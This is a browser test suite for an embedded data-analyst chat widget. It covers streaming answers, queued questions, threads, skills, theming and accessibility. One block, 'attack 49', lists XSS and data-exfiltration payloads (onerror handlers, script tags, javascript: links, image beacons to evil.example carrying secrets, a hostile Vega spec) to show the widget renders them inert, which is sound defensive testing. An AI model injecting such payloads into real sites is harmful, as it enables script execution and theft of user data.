import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { keepBuilt } from '../../../../../scripts/pages/keep-built.ts';
import { type Browser, openChromium, type Page } from '../../../../../tests/browser/chromium.ts';

const dist = join(import.meta.dirname, '../../../dist');

interface Asked {
  readonly method: string;
  readonly path: string;
  readonly authorization: string | undefined;
  readonly body: Readonly<Record<string, unknown>>;
}

type Reply = (response: ServerResponse, asked: Asked) => unknown;

let browser: Browser;
let origin: string;
let asked: Asked[];
/** Answers by path, in place of the usual ones. */
let replies: Map<string, Reply>;
let skills: readonly object[];

const agent = {
  id: 3,
  name: 'auto',
  description: null,
  agentSpace: { name: 'auto' },
  chatUrl: '/api/v1/public/a/agents/3',
};
const stream = '/api/v1/public/a/agents/3/chat/stream-chat-state';
const json =
  (body: unknown, status = 200): Reply =>
  (response) =>
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));

beforeAll(async () => {
  await keepBuilt('frames');
  browser = await openChromium();
});
afterAll(() => browser?.close());

beforeEach(async () => {
  [asked, replies, skills] = [[], new Map(), []];
  const names: Readonly<Record<string, string>> = JSON.parse(readFileSync(join(dist, 'manifest.json'), 'utf8'));
  const facts = { basePath: '', frameOrigins: ['*'], page: 'chat', deploymentId: 1 };
  const html = `<!doctype html><html lang="en"><head><meta name="viewport" content="width=device-width, initial-scale=1">
    <link rel="stylesheet" href="/embed/assets/${names['frame.css']}">
    <link rel="stylesheet" href="/embed/assets/${names['chat.css']}">
    <script type="application/json" id="orrery-page">${JSON.stringify(facts)}</script>
    <script type="module" src="/embed/assets/${names['frame.js']}"></script></head><body><div id="orrery"></div>`;
  const page: Reply = (response) =>
    response
      .setHeader('content-type', 'text/html')
      .setHeader(
        'content-security-policy',
        "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: https:; connect-src 'self'; require-trusted-types-for 'script'; trusted-types default",
      )
      .end(html);
  const issued = Math.floor(Date.now() / 1_000);
  const claims = { sub: '7', iat: issued, exp: issued + 86_400, deploymentId: 1 };
  const token = `a.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.c`;
  const usual = (path: string): Reply => {
    if (path.startsWith('/embed/assets/')) {
      const file = join(dist, path.slice('/embed/assets/'.length));
      const type = path.endsWith('.css') ? 'text/css' : 'text/javascript';
      return (response) => response.setHeader('content-type', type).end(readFileSync(file));
    }
    if (path.startsWith('/embed/')) return page;
    if (path.endsWith('/session/token')) return json({ token });
    if (path.endsWith('/agents')) return json({ items: [agent] });
    if (path.endsWith('/agent-skills')) return json({ items: skills });
    if (path.endsWith('/chat/threads')) return json({ items: [], pageInfo: { hasNextPage: false, endCursor: null } });
    return json({});
  };
  const server = createServer(async (request, response) => {
    const { method = '', url = '', headers } = request;
    const [path = ''] = url.split('?');
    const body = await text(request);
    const one = { method, path: url, authorization: headers.authorization, body: body === '' ? {} : JSON.parse(body) };
    if (path.startsWith('/api/')) asked.push(one);
    await (replies.get(`${method} ${path}`) ?? replies.get(path) ?? usual(path))(response, one);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

async function open(query = '?session=one', width = 1000): Promise<Page> {
  const page = await browser.open('about:blank');
  onTestFinished(() => page.close());
  const size = { width, height: 700, deviceScaleFactor: 1, mobile: width < 500 };
  await page.send('Emulation.setDeviceMetricsOverride', size);
  await page.send('Page.navigate', { url: `${origin}/embed/d/1/chat${query}` });
  await until(page, "document.querySelector('.chat-page, .message, .sign-in') !== null");
  return page;
}

async function until(page: Page, expression: string): Promise<void> {
  await expect.poll(() => page.evaluate<unknown>(expression), { interval: 50 }).toBe(true);
}

async function picture(page: Page, name: string): Promise<void> {
  const folder = process.env['ORRERY_PICTURES'];
  if (folder === undefined) return;
  const { data } = (await page.send('Page.captureScreenshot', {})) as { data: string };
  writeFileSync(join(folder, `${name}.png`), Buffer.from(data, 'base64'));
}

const key = async (page: Page, name: string, more: object = {}) => {
  const text = name === 'Enter' ? { text: '\r' } : {};
  for (const type of ['keyDown', 'keyUp']) {
    await page.send('Input.dispatchKeyEvent', { type, key: name, code: name, ...keyCodes[name], ...text, ...more });
  }
};
const keyCodes: Readonly<Record<string, object>> = {
  Enter: { windowsVirtualKeyCode: 13 },
  Escape: { windowsVirtualKeyCode: 27 },
  Tab: { windowsVirtualKeyCode: 9 },
  ArrowDown: { windowsVirtualKeyCode: 40 },
  ArrowUp: { windowsVirtualKeyCode: 38 },
};
const type = async (page: Page, words: string) => {
  await page.evaluate("document.querySelector('textarea').focus()");
  await page.send('Input.insertText', { text: words });
};
const ask = async (page: Page, words: string) => {
  await type(page, words);
  await key(page, 'Enter');
};
const textIn = (page: Page, selector: string) =>
  page.evaluate<string>(
    `[...document.querySelectorAll(${JSON.stringify(selector)})].map((e) => e.innerText).join('|')`,
  );

const assistant = { role: 'assistant', isStructuredResponse: false, thinking: '' };
const main = { ...assistant, id: 'main', graphPath: ['orrery_data_analyst_agent'] };
const tool = { ...assistant, graphPath: ['orrery_data_analyst_agent', 'tools'], isDelta: false };
const cutoff = { id: '__cutoff__', role: 'assistant', sort: 0, state: { chatId: 'chat-1', isStreaming: false } };
const ended = (more: object = {}) => ({
  id: '__state__',
  role: 'assistant',
  isDelta: false,
  sort: 99,
  state: { messages: [], ...more },
});
const said = (content: string) => ({ ...main, content, isDelta: true, isInProcess: true, sort: 3 });
const final = (content: string, id = 'final') => ({
  ...assistant,
  id,
  graphPath: ['final'],
  content,
  isDelta: false,
  isInProcess: false,
  sort: 90,
});
const query = (result: object, vegaSpec?: object) => {
  const input = { sqlQuery: 'SELECT 1', queryTitle: 'Orders by city', description: 'All orders.' };
  const given = vegaSpec === undefined ? {} : { vegaSpec: JSON.stringify(vegaSpec) };
  const call = { name: 'orrerySqlApi', input: JSON.stringify(input) };
  const schema = [
    { name: 'city', column_type: 'String' },
    { name: 'orders', column_type: 'Int64' },
  ];
  const whole = {
    ...input,
    schema,
    data: [
      ['Oslo', '12'],
      ['Rome', '30'],
    ],
    totalRows: 2,
    uuid: 'u',
    ...given,
    ...result,
  };
  return [
    { ...tool, id: 'query', toolCall: call, isInProcess: true, sort: 10 },
    { ...tool, id: 'query', toolCall: { ...call, result: JSON.stringify(whole) }, isInProcess: false, sort: 11 },
  ];
};
const bars = {
  $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
  mark: 'bar',
  encoding: { x: { field: 'city', type: 'nominal' }, y: { field: 'orders', type: 'quantitative' } },
};

/** Answers questions with records behind the first one and the echo. */
function answering(...records: readonly object[]): Reply {
  return (response, { body }) => {
    const echo = { id: body['messageId'], role: 'user', content: body['input'], isDelta: false, sort: 1 };
    const all = [cutoff, ...(body['input'] === undefined ? [] : [echo]), ...records];
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(all.map((record) => `${JSON.stringify(record)}\n`).join(''));
  };
}

/** Answers in two parts, the second when it is told so. */
function paused(first: readonly object[], second: readonly object[]) {
  let goOn: () => void = () => {};
  const told = new Promise<void>((done) => {
    goOn = done;
  });
  const reply: Reply = async (response, { body }) => {
    const echo = { id: body['messageId'], role: 'user', content: body['input'], isDelta: false, sort: 1 };
    const write = (records: readonly object[]) => records.map((record) => `${JSON.stringify(record)}\n`).join('');
    response.writeHead(200, { 'content-type': 'application/json' });
    response.write(write([cutoff, echo, ...first]));
    await told;
    response.end(write(second));
  };
  return { reply, goOn: () => goOn() };
}

const questions = () => asked.filter(({ path }) => path === stream).map(({ body }) => body['input']);

describe('a question', () => {
  it('is answered while it is written, with its steps, chart and account', async () => {
    const { reply, goOn } = paused(
      [said('Let me look.'), ...query({}, bars)],
      [
        final(
          '**Rome** has the most orders: 30.\n\n| City | Orders |\n| --- | ---: |\n| Rome | 30 |\n| Oslo | 12 |\n\nAll orders.',
        ),
        ended({
          receipts: [
            {
              finalId: 'final',
              model: 'analyst',
              queries: [
                {
                  description: 'All orders.',
                  totalRows: 2,
                  completeness: 'all',
                  timezone: 'UTC',
                  dates: [{ member: 'orders.created_at', from: '2026-05-01T00:00:00.000', to: null }],
                  policies: [{ rowFilters: ['orders.city'] }],
                  masked: [],
                  lastRefreshTime: '2026-05-01T10:00:00.000Z',
                },
              ],
            },
          ],
        }),
      ],
    );
    replies.set(stream, reply);
    const page = await open();
    await picture(page, 'empty');
    await ask(page, 'orders by city');
    await until(page, "document.querySelector('.result .picture svg') !== null");
    expect(await textIn(page, '.said')).toBe('Let me look.');
    expect(await textIn(page, '.composer button')).toBe('Stop');
    expect(await page.evaluate('document.querySelector("textarea").value')).toBe('');
    await picture(page, 'answering');
    goOn();
    await until(page, "document.querySelector('.receipt') !== null");
    await picture(page, 'answered');
    expect(await textIn(page, '.answer')).toContain('Rome has the most orders: 30.');
    expect(await textIn(page, '.answer td')).toBe('Rome|30|Oslo|12');
    expect(await textIn(page, '.step summary')).toBe('Ran a query: Orders by city');
    await page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })");
    expect(await textIn(page, '.receipt dd')).toContain('orders.created_at from 2026-05-01 (UTC)');
    expect(await textIn(page, '.step code')).toBe('SELECT 1');
    expect(await textIn(page, '[role=status]')).toContain('Rome has the most orders');
    expect(asked.find(({ path }) => path === stream)?.authorization).toMatch(/^Embed-Token /);
    expect(page.requests.filter((url) => !url.startsWith(origin) && !url.startsWith('about:'))).toEqual([]);
  });

  it('goes on in the chat that it began', async () => {
    replies.set(stream, answering(final('Twelve'), ended()));
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.answer')?.innerText === 'Twelve'");
    await ask(page, 'only Oslo');
    await until(
      page,
      "document.querySelectorAll('.turn').length === 2 && document.querySelectorAll('.composer .stop').length === 0",
    );
    const bodies = asked.filter(({ path }) => path === stream).map(({ body }) => body);
    expect(bodies.map(({ input, chatId }) => [input, chatId])).toEqual([
      ['orders', undefined],
      ['only Oslo', 'chat-1'],
    ]);
    expect(new Set(bodies.map(({ messageId }) => messageId)).size).toBe(2);
    expect(asked.filter(({ path }) => path.startsWith('/api/v1/chat/threads')).length).toBeGreaterThan(1);
  });

  it('takes questions while it answers, and asks them one after another', async () => {
    const first = paused([said('Let me')], [final('Twelve'), ended()]);
    const then = paused(
      [said('And')],
      [{ ...main, content: 'And', isDelta: false, sort: 4 }, ended({ aborted: true })],
    );
    const turns = [first.reply, then.reply];
    replies.set(stream, (response, one) => turns.shift()?.(response, one));
    replies.set('/api/v1/public/a/agents/3/chat/abort', (response) => {
      response.writeHead(204).end();
      then.goOn();
    });
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.said')?.innerText === 'Let me'");
    await type(page, 'only Oslo');
    expect(await textIn(page, '.composer button')).toBe('Ask next');
    await key(page, 'Enter');
    for (const words of ['only Rome', 'by month']) await ask(page, words);
    expect(await textIn(page, '.waiting span')).toBe('only Oslo|only Rome|by month');
    await picture(page, 'waiting');
    await page.evaluate("document.querySelectorAll('.waiting button')[1].click()");
    expect([questions(), await textIn(page, '.composer button')]).toEqual([['orders'], 'Stop']);
    first.goOn();
    await until(page, "document.querySelectorAll('.turn').length === 2");
    await until(page, "[...document.querySelectorAll('.said')].at(-1).innerText === 'And'");
    expect([questions(), await textIn(page, '.waiting span')]).toEqual([['orders', 'only Oslo'], 'by month']);
    // What was not asked is not lost.
    await page.evaluate("document.querySelector('.composer .stop').click()");
    await until(page, "document.querySelector('textarea').value === 'by month'");
    expect([questions().length, await textIn(page, '.waiting span')]).toEqual([2, '']);
  });

  it('is not sent while a word is composed, nor when it is blank; Shift and Enter begin a line', async () => {
    replies.set(stream, answering(final('Done'), ended()));
    const page = await open();
    await ask(page, '   ');
    await type(page, 'orders');
    await key(page, 'Enter', { modifiers: 8 });
    await page.evaluate(`document.querySelector('textarea').dispatchEvent(
      new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))`);
    expect(questions()).toEqual([]);
    await type(page, 'by city');
    await key(page, 'Enter');
    await until(page, "document.querySelector('.answer')?.innerText === 'Done'");
    expect(questions()).toEqual(['orders\nby city']);
  });

  it('is stopped, and what was said stays', async () => {
    const { reply, goOn } = paused(
      [said('Let me')],
      [{ ...main, content: 'Let me', isDelta: false, isInProcess: false, sort: 4 }, ended({ aborted: true })],
    );
    replies.set(stream, reply);
    replies.set('/api/v1/public/a/agents/3/chat/abort', (response) => {
      response.writeHead(204).end();
      goOn();
    });
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.said')?.innerText === 'Let me'");
    await page.evaluate("document.querySelector('.composer .stop').click()");
    await until(page, "document.querySelector('.reply .notice')?.innerText === 'Stopped.'");
    expect(await textIn(page, '.said')).toBe('Let me');
    expect(asked.find(({ path }) => path.endsWith('/abort'))?.body).toEqual({ chatId: 'chat-1' });
  });

  it('loses nothing when its line breaks', async () => {
    let times = 0;
    replies.set(stream, (response, one) => {
      times += 1;
      if (times > 1) return answering(said('Let me look.'), ...query({}), final('Found it'), ended())(response, one);
      response.writeHead(200, { 'content-type': 'application/json' });
      const echo = { id: one.body['messageId'], role: 'user', content: 'orders', isDelta: false, sort: 1 };
      response.write([cutoff, echo, said('Let me look.')].map((each) => `${JSON.stringify(each)}\n`).join(''));
      setTimeout(() => response.destroy(), 50);
    });
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.answer')?.innerText === 'Found it'");
    const [first, second] = asked.filter(({ path }) => path === stream).map(({ body }) => body['messageId']);
    expect([times, first]).toEqual([2, second]);
    expect(await textIn(page, '.said')).toBe('Let me look.');
  });

  it('that fails says why, and may be asked again', async () => {
    replies.set(stream, answering({ error: 'LlmError: overloaded' }, ended()));
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.reply .error[role=alert]')?.innerText === 'No answer: overloaded'");
    await picture(page, 'failed');
    replies.set(stream, answering(final('Twelve'), ended()));
    await page.evaluate(
      "[...document.querySelectorAll('.reply button')].find((b) => b.innerText === 'Try again').click()",
    );
    await until(page, "[...document.querySelectorAll('.answer')].at(-1)?.innerText === 'Twelve'");
    expect(questions()).toEqual(['orders', 'orders']);
  });
});

describe('choices', () => {
  const asking =
    'What is meant with *city*: City (Stores) or City (Customers)?\n- orders by store city\n- orders by *customer* city';

  it('of a question back are buttons that ask', async () => {
    replies.set(stream, (response, one) =>
      (one.body['input'] === 'orders by city'
        ? answering(final(asking), ended())
        : answering(final('Here', 'f2'), ended()))(response, one),
    );
    const page = await open();
    await ask(page, 'orders by city');
    await until(page, "document.querySelectorAll('.chat-choices button').length === 2");
    await picture(page, 'choices');
    expect(await textIn(page, '.answer')).toBe('What is meant with city: City (Stores) or City (Customers)?');
    await page.evaluate("document.querySelectorAll('.chat-choices button')[0].click()");
    await until(page, "[...document.querySelectorAll('.answer')].at(-1)?.innerText === 'Here'");
    expect(questions()).toEqual(['orders by city', 'orders by store city']);
    expect(await page.evaluate("document.querySelectorAll('.chat-choices button').length")).toBe(0);
    expect(await textIn(page, '.answer li')).toBe('orders by store city|orders by customer city');
  });

  it('stay when more questions wait, which are given back', async () => {
    const first = paused([said('Which')], [final(asking), ended()]);
    replies.set(stream, first.reply);
    const page = await open();
    await ask(page, 'orders by city');
    await until(page, "document.querySelector('.said')?.innerText === 'Which'");
    for (let count = 1; count <= 10; count += 1) await ask(page, `question ${count}`);
    await type(page, 'one more');
    await key(page, 'Enter');
    expect(await page.evaluate("document.querySelector('textarea').value")).toBe('one more');
    expect(await textIn(page, '.waiting .error')).toContain('No more questions wait');
    first.goOn();
    await until(page, "document.querySelectorAll('.chat-choices button').length === 2");
    expect([questions(), await textIn(page, '.waiting span')]).toEqual([['orders by city'], '']);
    expect(await page.evaluate("document.querySelector('textarea').value.split('\\n').length")).toBe(11);
  });

  it.each([
    ['a list that asks nothing', 'You can ask about:\n- orders\n- stores'],
    ['a list in the middle', 'Which one?\n- a\n- b\n\nTell me.'],
  ])('are not made of %s', async (_, content) => {
    replies.set(stream, answering(final(content), ended()));
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelectorAll('.answer li').length === 2");
    expect(await page.evaluate("document.querySelectorAll('.chat-choices button').length")).toBe(0);
  });
});

describe('skills', () => {
  beforeEach(() => {
    skills = [
      { name: 'weekly-report', title: 'Weekly report', description: 'Sales of the last week' },
      { name: 'stores', title: 'Store review', description: 'How stores do' },
    ];
  });

  it('are found behind a slash, by keyboard, and only write into the field', async () => {
    const page = await open();
    await type(page, '/');
    await until(page, "document.querySelectorAll('[role=option]').length === 2");
    await picture(page, 'skills');
    await key(page, 'ArrowDown');
    const active = await page.evaluate(
      "document.getElementById(document.querySelector('textarea').getAttribute('aria-activedescendant')).innerText",
    );
    expect(active).toContain('/stores');
    await key(page, 'Escape');
    expect(await page.evaluate("document.querySelector('[role=listbox]').hidden")).toBe(true);
    await page.send('Input.insertText', { text: 'wee' });
    await until(page, "document.querySelectorAll('[role=option]').length === 1");
    await key(page, 'Enter');
    expect(await page.evaluate("document.querySelector('textarea').value")).toBe('/weekly-report ');
    expect(questions()).toEqual([]);
  });

  it('are offered as buttons on an empty chat', async () => {
    const page = await open();
    await page.evaluate(
      "[...document.querySelectorAll('.empty-chat button')].find((b) => b.innerText === 'Store review').click()",
    );
    expect(await page.evaluate("document.querySelector('textarea').value")).toBe('/stores ');
  });
});

describe('chats', () => {
  const listed = (titles: readonly string[]): Reply =>
    json({
      items: titles.map((title, index) => ({ chatId: `chat-${index + 1}`, title })),
      pageInfo: { hasNextPage: false, endCursor: null },
    });
  const history = answering(
    { id: '1781000000123-message', role: 'user', content: 'orders', isDelta: false, sort: 1 },
    final('Twelve'),
    ended(),
  );

  it('are listed, opened, kept over a reload, and left for a new one', async () => {
    replies.set('/api/v1/chat/threads', listed(['orders', 'margin by month']));
    replies.set(stream, history);
    const page = await open();
    await until(page, "document.querySelectorAll('.thread').length === 2");
    await page.evaluate("document.querySelectorAll('.thread')[1].click()");
    await until(page, "document.querySelector('.answer')?.innerText === 'Twelve'");
    await picture(page, 'threads');
    expect(asked.find(({ path }) => path === stream)?.body).toEqual({ chatId: 'chat-2' });
    await page.send('Page.reload');
    await until(page, "document.querySelector('.answer')?.innerText === 'Twelve'");
    await page.evaluate("[...document.querySelectorAll('.chat-head button')].at(-1).click()");
    expect(await page.evaluate("document.querySelectorAll('.turn').length")).toBe(0);
    expect(await page.evaluate("document.querySelector('.empty-chat').hidden")).toBe(false);
    expect(await page.evaluate('document.activeElement.tagName')).toBe('TEXTAREA');
  });

  it('are renamed and deleted, the latter when it is said twice', async () => {
    replies.set('GET /api/v1/chat/threads', listed(['orders']));
    replies.set('PATCH /api/v1/chat/threads/chat-1', json({ chatId: 'chat-1', title: 'Orders in May' }));
    replies.set('DELETE /api/v1/chat/threads/chat-1', (response) => response.writeHead(204).end());
    const page = await open();
    const button = (label: string) =>
      `document.querySelector('.thread-actions button[aria-label=${JSON.stringify(label)}]')`;
    await until(page, `${button('Rename: orders')} !== null`);
    await page.evaluate(`${button('Rename: orders')}.click()`);
    await page.evaluate(
      "document.querySelector('.rename input').value = 'Orders in May'; document.querySelector('.rename button').click()",
    );
    await until(page, "document.querySelector('.thread')?.innerText === 'Orders in May'");
    await page.evaluate(`${button('Delete: Orders in May')}.click()`);
    expect(asked.some(({ method }) => method === 'DELETE')).toBe(false);
    await page.evaluate(`${button('Delete for good?: Orders in May')}.click()`);
    await expect.poll(() => asked.filter(({ method }) => method === 'DELETE').length).toBe(1);
    expect(asked.find(({ method }) => method === 'PATCH')?.body).toEqual({ title: 'Orders in May' });
  });
});

describe('what others wrote (attack 49)', () => {
  const hostile = [
    '![x](https://evil.example/a.png?d=secret)',
    '[click](https://evil.example/b?d=secret)',
    '[run](javascript:window.stolen=1)',
    '<img src="https://evil.example/c.png" onerror="window.stolen=1">',
    '<script>window.stolen=1</script>',
    '`<b>code</b>` **<i>bold</i>**',
    '| <img src=x onerror=window.stolen=1> | b |',
    '| --- | --- |',
    '| [x](https://evil.example/d) | 1 |',
    '- <svg onload=window.stolen=1>',
    '# <style>*{display:none}</style>',
    '[ref]: https://evil.example/e',
  ].join('\n\n');
  const spec = {
    ...bars,
    data: { url: 'https://evil.example/data.json' },
    usermeta: { embedOptions: { loader: {} } },
    encoding: {
      ...bars.encoding,
      href: { value: 'https://evil.example/f' },
      url: { value: 'https://evil.example/g.png' },
    },
  };

  it('never becomes markup, loads nothing, and leads nowhere', async () => {
    const name = '<img src=https://evil.example/h.png onerror=window.stolen=1>';
    const rows = {
      schema: [
        { name, column_type: 'String' },
        { name: 'orders', column_type: 'Int64' },
      ],
      data: [
        [hostile, '1'],
        ['x', '2'],
      ],
    };
    replies.set(
      'GET /api/v1/chat/threads',
      json({ items: [{ chatId: 'c', title: hostile }], pageInfo: { hasNextPage: false, endCursor: null } }),
    );
    skills = [{ name: 'x', title: hostile, description: hostile }];
    replies.set(
      stream,
      answering(said(hostile), ...query({ ...rows, queryTitle: hostile }, spec), final(hostile), ended()),
    );
    const page = await open();
    await ask(page, hostile);
    await until(
      page,
      "document.querySelector('.answer').innerText.includes('click (https://evil.example/b?d=secret)')",
    );
    await page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })");
    await new Promise((done) => setTimeout(done, 500));
    expect(
      await page.evaluate(
        "document.querySelectorAll('#orrery a, #orrery img, #orrery script, #orrery style, #orrery iframe, #orrery object').length",
      ),
    ).toBe(0);
    expect(await page.evaluate('window.stolen')).toBe(undefined);
    expect(page.requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(
      page.requests.filter((url) => !url.startsWith(origin) && !url.startsWith('about:') && !url.startsWith('data:')),
    ).toEqual([]);
    await picture(page, 'hostile');
  });
});

describe('the look', () => {
  it('has the colours of the session in light and dark', async () => {
    const embedTheme = {
      analyticsChat: {
        backgroundColor: '#fdf6e3',
        chatInput: { backgroundColor: '#eee8d5', borderColor: 'rgb(181, 137, 0)' },
      },
    };
    replies.set('/api/v1/users/embed-theme', json({ embedTheme }));
    replies.set(stream, answering(...query({}, bars), final('**Rome** leads.'), ended()));
    const page = await open();
    const colours = () =>
      page.evaluate(`(() => {
        const style = (selector, name) => getComputedStyle(document.querySelector(selector))[name];
        return [style('#orrery', 'backgroundColor'), style('.composer', 'backgroundColor'), style('.composer', 'borderTopColor')];
      })()`);
    expect(await colours()).toEqual(['rgb(253, 246, 227)', 'rgb(238, 232, 213)', 'rgb(181, 137, 0)']);
    await ask(page, 'orders');
    await until(page, "document.querySelector('.result svg') !== null");
    await picture(page, 'themed');
  });

  it('fits 360 pixels, and opens its chats over the conversation', async () => {
    const items = [
      { chatId: 'chat-1', title: 'A chat with a very long title that does not fit into any narrow column' },
    ];
    replies.set('GET /api/v1/chat/threads', json({ items, pageInfo: { hasNextPage: false, endCursor: null } }));
    const table = `| A | B | C | D | E |\n| --- | --- | --- | --- | --- |\n| ${'long text '.repeat(5)} | 1 | 2 | 3 | 4 |`;
    replies.set(stream, answering(...query({}, bars), final(`**Rome** leads.\n\n${table}`), ended()));
    const page = await open('?session=one&theme=dark', 360);
    await ask(page, 'orders of everything that there is, and of more');
    await until(page, "document.querySelector('.result svg') !== null");
    await page.evaluate("document.querySelector('.log').scrollTop = 0");
    await picture(page, 'narrow');
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(360);
    expect(
      await page.evaluate("document.querySelector('.log').scrollWidth <= document.querySelector('.log').clientWidth"),
    ).toBe(true);
    const isShown = "document.querySelector('.threads').checkVisibility()";
    expect(await page.evaluate(isShown)).toBe(false);
    await page.evaluate("document.querySelector('.chat-head [aria-expanded]').focus()");
    await key(page, 'Enter');
    expect(await page.evaluate(isShown)).toBe(true);
    await picture(page, 'narrow-threads');
    await key(page, 'Escape');
    expect(await page.evaluate(isShown)).toBe(false);
    expect(await page.evaluate("document.activeElement.getAttribute('aria-expanded')")).toBe('false');
  });
});

describe('those who cannot see or use a mouse', () => {
  const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

  it.each(['light', 'dark'])('find nothing missing in the page: %s', async (theme) => {
    skills = [{ name: 'stores', title: 'Store review', description: 'How stores do' }];
    const items = [{ chatId: 'chat-1', title: 'orders' }];
    replies.set('GET /api/v1/chat/threads', json({ items, pageInfo: { hasNextPage: false, endCursor: null } }));
    const table = '| City | Orders |\n| --- | ---: |\n| Rome | 30 |';
    replies.set(
      stream,
      answering(said('Let me look.'), ...query({}, bars), final(`**Rome** leads.\n\n${table}`), ended()),
    );
    const page = await open(`?session=one&theme=${theme}`);
    const find = async () => {
      await page.evaluate(`${axe}; 0`);
      const { violations } = await page.evaluate<{ violations: { id: string; nodes: { html: string }[] }[] }>(
        'axe.run(document)',
      );
      return violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)]);
    };
    await until(page, "document.querySelectorAll('.thread').length === 1");
    expect(await find()).toEqual([]);
    await type(page, '/');
    await until(page, "document.querySelectorAll('[role=option]').length === 1");
    expect(await find()).toEqual([]);
    await key(page, 'Escape');
    await page.evaluate("document.querySelector('textarea').value = ''");
    await ask(page, 'orders by city');
    await until(page, "document.querySelector('.result svg') !== null && !document.querySelector('.composer .stop')");
    await page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true })");
    expect(await find()).toEqual([]);
  });
});

describe('without an answer of the server', () => {
  it.each([
    [403, 'Chat is not available here.'],
    [404, 'No such deployment'],
  ])('the page says so after %d', async (status, words) => {
    replies.set('/api/v1/deployments/1/agents', json({ error: 'No such deployment' }, status));
    const page = await open();
    expect(await textIn(page, '.message')).toBe(words);
  });

  it('a session that is over is told, and the question waits', async () => {
    replies.set(stream, json({ error: 'This embedded session has expired.' }, 401));
    const page = await open();
    await ask(page, 'orders');
    await until(page, "document.querySelector('.banner').checkVisibility()");
    await until(page, "document.querySelector('.reply .error') !== null");
    expect(await textIn(page, '.reply button')).toBe('Try again');
  });
});
